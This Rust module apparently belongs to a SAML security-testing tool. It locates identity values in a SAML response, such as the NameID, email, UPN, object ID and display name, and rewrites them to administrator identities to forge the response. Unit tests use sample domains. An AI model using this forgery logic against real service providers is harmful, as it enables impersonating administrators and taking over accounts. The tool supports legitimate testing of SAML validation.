//! Who a response says the user is, and the target identity a forgery swaps in: every
//! identity-bearing value (NameID, name/UPN, emailaddress, objectidentifier, displayname).

use crate::bytes::{escape, splice, Doc};
use saml_protocol::ASSERTION_NS;

/// Claim names (last URI segment, case-insensitive) that identify the user.
const IDENTITY_CLAIMS: [&str; 9] = [
    "name",
    "emailaddress",
    "email",
    "mail",
    "upn",
    "userprincipalname",
    "displayname",
    "objectidentifier",
    "nameidentifier",
];

/// Whether an attribute named `name` carries the user's identity.
pub fn is_identity_claim(name: &str) -> bool {
    let last = name.rsplit(['/', ':']).next().unwrap_or(name);
    IDENTITY_CLAIMS.iter().any(|c| c.eq_ignore_ascii_case(last))
}

/// Candidate target values for `genuine`, best first: `admin@` the same domain for
/// addresses, a fixed GUID for object ids, `Admin` for display names and anything else.
fn candidates(genuine: &str) -> [String; 2] {
    if let Some((_, domain)) = genuine.rsplit_once('@') {
        return [format!("admin@{domain}"), format!("administrator@{domain}")];
    }
    if genuine.len() == 36 && genuine.matches('-').count() == 4 {
        return [
            "ad000000-0000-4000-8000-000000000001".into(),
            "ad000000-0000-4000-8000-000000000002".into(),
        ];
    }
    ["Admin".into(), "Administrator".into()]
}

/// The value a forgery puts where `genuine` was (never `genuine` itself).
pub fn target_of(genuine: &str) -> String {
    let [first, second] = candidates(genuine);
    if first.eq_ignore_ascii_case(genuine) {
        second
    } else {
        first
    }
}

/// The forgery's mapping for `doc`: [`target_of`], but never a value `doc` already carries
/// (so the target is always someone other than the user whose response was used).
pub fn forger(doc: &Doc) -> impl Fn(&str) -> String {
    let existing = values(doc);
    move |genuine: &str| {
        let taken = |c: &String| existing.iter().any(|e| e.eq_ignore_ascii_case(c));
        let [first, second] = candidates(genuine);
        if taken(&first) {
            second
        } else {
            first
        }
    }
}

/// The identity values in a response: NameID first, then identity claims, each once.
pub fn values(doc: &Doc) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for (_, text) in identity_texts(doc, 0..doc.src.len()) {
        let v = text.trim().to_owned();
        if !v.is_empty() && !out.contains(&v) {
            out.push(v);
        }
    }
    out
}

/// Text nodes inside `within` that carry identity: NameID text and identity-claim values.
fn identity_texts<'a>(
    doc: &'a Doc,
    within: std::ops::Range<usize>,
) -> Vec<(std::ops::Range<usize>, &'a str)> {
    doc.tree
        .descendants()
        .filter(|n| n.is_text())
        .filter(|n| within.start <= n.range().start && n.range().end <= within.end)
        .filter(|n| {
            let Some(parent) = n.parent_element() else {
                return false;
            };
            if parent.has_tag_name((ASSERTION_NS, "NameID")) {
                return true;
            }
            parent.has_tag_name((ASSERTION_NS, "AttributeValue"))
                && parent
                    .parent_element()
                    .and_then(|a| a.attribute("Name"))
                    .is_some_and(is_identity_claim)
        })
        .map(|n| (n.range(), &doc.src[n.range()]))
        .collect()
}

/// What a forgery did to identity: the forged values, and the genuine ones it replaced.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Swap {
    /// Values that belong to the user whose response was used (the attacker's own).
    pub genuine: Vec<String>,
    /// Values of the target identity.
    pub forged: Vec<String>,
    /// Look-alike values the forgery left whole at a place it does not attack: a session
    /// showing one was mapped from there, so the check's effect cannot be seen.
    pub untouched: Vec<String>,
}

/// The edits that rewrite every identity value inside `within` of `doc` to `map(value)`, and
/// what they swap. Only identity text nodes change.
pub fn rewrite_edits(
    doc: &Doc,
    within: std::ops::Range<usize>,
    map: &dyn Fn(&str) -> String,
) -> (crate::bytes::Edits, Swap) {
    let mut swap = Swap::default();
    let mut edits = Vec::new();
    for (range, raw) in identity_texts(doc, within) {
        let genuine = raw.trim();
        if genuine.is_empty() || genuine.contains('&') {
            continue;
        }
        let forged = map(genuine);
        if !swap.genuine.iter().any(|g| g == genuine) {
            swap.genuine.push(genuine.to_owned());
        }
        if !swap.forged.contains(&forged) {
            swap.forged.push(forged.clone());
        }
        edits.push((range, escape(&forged)));
    }
    (edits, swap)
}

/// Forges the target identity into `within` (see [`forger`]): the new document and what was
/// swapped.
pub fn forge(doc: &Doc, within: std::ops::Range<usize>) -> (String, Swap) {
    let (edits, swap) = rewrite_edits(doc, within, &forger(doc));
    (splice(doc.src, edits), swap)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn targets_keep_the_shape_of_the_genuine_value() {
        assert_eq!(target_of("B.Simon@contoso.com"), "admin@contoso.com");
        assert_eq!(
            target_of("4c0a7b8e-1111-2222-3333-444455556666"),
            "ad000000-0000-4000-8000-000000000001"
        );
        assert_eq!(target_of("B.Simon"), "Admin");
        assert_eq!(target_of("Admin@contoso.com"), "administrator@contoso.com");
        assert_eq!(target_of("admin"), "Administrator");
        let src = r#"<A xmlns="urn:oasis:names:tc:SAML:2.0:assertion"><NameID>b@x.test</NameID><Attribute Name="email"><AttributeValue>admin@x.test</AttributeValue></Attribute></A>"#;
        assert_eq!(
            forger(&Doc::parse(src).unwrap())("b@x.test"),
            "administrator@x.test"
        );
        assert!(is_identity_claim(
            "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress"
        ));
        assert!(is_identity_claim("email"));
        assert!(!is_identity_claim(
            "http://schemas.microsoft.com/identity/claims/tenantid"
        ));
    }

    #[test]
    fn only_identity_text_is_rewritten() {
        let src = r#"<A xmlns="urn:oasis:names:tc:SAML:2.0:assertion"><Subject><NameID>b@x.test</NameID></Subject><AttributeStatement><Attribute Name="http://schemas.microsoft.com/identity/claims/tenantid"><AttributeValue>t</AttributeValue></Attribute><Attribute Name="http://schemas.microsoft.com/identity/claims/displayname"><AttributeValue>B</AttributeValue></Attribute></AttributeStatement></A>"#;
        let doc = Doc::parse(src).unwrap();
        let (out, swap) = forge(&doc, 0..src.len());
        assert!(out.contains("<NameID>admin@x.test</NameID>"), "{out}");
        assert!(out.contains("<AttributeValue>t</AttributeValue>"), "{out}");
        assert!(
            out.contains("<AttributeValue>Admin</AttributeValue>"),
            "{out}"
        );
        assert_eq!(swap.genuine, ["b@x.test", "B"]);
        assert_eq!(swap.forged, ["admin@x.test", "Admin"]);
    }
}
